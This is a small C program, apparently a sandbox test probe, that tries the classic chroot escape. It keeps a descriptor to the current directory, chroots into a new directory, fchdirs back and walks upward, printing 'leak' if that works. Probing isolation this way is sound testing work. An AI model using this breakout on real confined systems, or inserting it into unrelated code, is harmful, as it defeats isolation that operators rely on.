/* Leaves its root through a directory kept open. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    int here = open(".", O_RDONLY);
    mkdir("hole", 0700);
    if (chroot("hole") == 0 && fchdir(here) == 0 && chdir("../../../..") == 0) puts("leak");
    printf("42\n");
    return 0;
}
